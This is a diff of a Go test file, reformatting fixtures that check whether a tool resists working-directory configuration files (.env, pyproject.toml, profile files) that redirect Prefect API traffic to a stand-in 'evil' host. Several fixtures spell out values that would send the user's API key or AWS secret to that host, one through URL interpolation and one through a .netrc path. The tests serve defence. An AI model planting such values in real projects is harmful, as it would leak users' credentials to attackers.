@@ -11,7 +11,8 @@ import (
 // ownKey and its server are the user's; evil is whoever made the working directory.
 var ownEnv = []string{"PREFECT_API_KEY=pnu_own", "AWS_SECRET_ACCESS_KEY=aws_own"}
 
-const ownProfile = "active = \"own\"\n[profiles.own]\nPREFECT_API_URL = \"https://own/api\"\nPREFECT_API_KEY = \"pnu_own\"\n"
+const ownProfile = "active = \"own\"\n[profiles.own]\nPREFECT_API_URL = \"https://own/api\"\nPREFECT_API_KEY = " +
+	"\"pnu_own\"\n"
 
 // foundFiles are attacks by what a working directory holds, and what is no attack.
 var foundFiles = map[string]struct {
@@ -26,8 +27,11 @@ var foundFiles = map[string]struct {
 		key: "pnu_own", warning: "PREFECT_API_URL of ",
 	},
 	"pyproject.toml takes the key of the profile": {
-		files: map[string]string{"pyproject.toml": "[tool.prefect.api]\nurl = \"https://evil/api\"\n", "home/.prefect/profiles.toml": ownProfile},
-		url:   "https://own/api", key: "pnu_own", warning: "pyproject.toml is not used",
+		files: map[string]string{
+			"pyproject.toml":              "[tool.prefect.api]\nurl = \"https://evil/api\"\n",
+			"home/.prefect/profiles.toml": ownProfile,
+		},
+		url: "https://own/api", key: "pnu_own", warning: "pyproject.toml is not used",
 	},
 	".env takes the key of the environment": {
 		files: map[string]string{".env": "PREFECT_API_URL=https://evil/api\n"}, env: ownEnv,
@@ -39,9 +43,10 @@ var foundFiles = map[string]struct {
 		url:       "https://own/api", key: "pnu_own", warning: "prefect.apiUrl of ecsctl.yaml is not used",
 	},
 	".env takes any variable as a key": {
-		files: map[string]string{".env": "PREFECT_API_URL=https://evil/api\nA=${AWS_SECRET_ACCESS_KEY}\nPREFECT_API_KEY=\"x$A${A}\"\n"},
-		env:   []string{"AWS_SECRET_ACCESS_KEY=aws_own"},
-		url:   "https://evil/api", warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
+		files: map[string]string{
+			".env": "PREFECT_API_URL=https://evil/api\nA=${AWS_SECRET_ACCESS_KEY}\nPREFECT_API_KEY=\"x$A${A}\"\n"},
+		env: []string{"AWS_SECRET_ACCESS_KEY=aws_own"},
+		url: "https://evil/api", warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
 	},
 	".env takes any variable in the URL": {
 		files: map[string]string{".env": "PREFECT_API_URL=https://evil/${AWS_SECRET_ACCESS_KEY}\n"},
@@ -53,8 +58,11 @@ var foundFiles = map[string]struct {
 		url:   "https://own/api", key: "pnu_own", warning: "PREFECT_API_TLS_INSECURE_SKIP_VERIFY of ",
 	},
 	".env names the file of profiles": {
-		files: map[string]string{".env": "PREFECT_PROFILES_PATH=evil.toml\n", "evil.toml": strings.ReplaceAll(ownProfile, "own/api", "evil/api")},
-		env:   ownEnv, key: "pnu_own", warning: "PREFECT_PROFILES_PATH of ",
+		files: map[string]string{
+			".env": "PREFECT_PROFILES_PATH=evil.toml\n", "evil.toml": strings.ReplaceAll(ownProfile, "own/api",
+				"evil/api"),
+		},
+		env: ownEnv, key: "pnu_own", warning: "PREFECT_PROFILES_PATH of ",
 	},
 	"ecsctl.yaml names a file whose line is sent as a key": {
 		overrides: prefect.Overrides{Found: prefect.Found{File: "ecsctl.yaml", APIKeyFile: "/home/own/.netrc"}},
@@ -62,16 +70,19 @@ var foundFiles = map[string]struct {
 		url:       "https://own/api", key: "pnu_own", warning: "prefect.apiKeyFile of ecsctl.yaml is not used",
 	},
 	"the same server is no attack": {
-		files: map[string]string{"prefect.toml": "[api]\nurl = \"https://own/api/\"\n", "home/.prefect/profiles.toml": ownProfile},
-		url:   "https://own/api", key: "pnu_own",
+		files: map[string]string{
+			"prefect.toml": "[api]\nurl = \"https://own/api/\"\n", "home/.prefect/profiles.toml": ownProfile,
+		},
+		url: "https://own/api", key: "pnu_own",
 	},
 	"a directory with all of its own": {
 		files: map[string]string{".env": "PREFECT_API_URL=https://theirs/api\nPREFECT_API_KEY=pnu_theirs\n"},
 		url:   "https://theirs/api", key: "pnu_theirs",
 	},
 	"the key of another profile's server": {
-		files: map[string]string{"home/.prefect/profiles.toml": ownProfile}, env: []string{"PREFECT_API_URL=http://localhost:4200/api"},
-		url: "http://localhost:4200/api", warning: "PREFECT_API_KEY of profile \"own\"",
+		files: map[string]string{"home/.prefect/profiles.toml": ownProfile},
+		env:   []string{"PREFECT_API_URL=http://localhost:4200/api"},
+		url:   "http://localhost:4200/api", warning: "PREFECT_API_KEY of profile \"own\"",
 	},
 }
 
